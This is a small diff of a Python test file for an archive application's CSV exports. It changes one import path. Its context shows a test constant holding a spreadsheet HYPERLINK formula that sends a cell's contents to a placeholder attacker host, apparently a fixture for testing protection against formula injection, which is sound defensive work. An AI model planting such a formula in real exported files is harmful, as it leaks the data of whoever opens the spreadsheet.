@@ -6,7 +6,7 @@ import pytest
 
 from archive.models import ArticleTopic, Mention, Person, Topic
 from archive.research import exports
-from tests.list_exports import BASE, csv_rows, download
+from tests.support.list_exports import BASE, csv_rows, download
 
 FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Read more")'
 
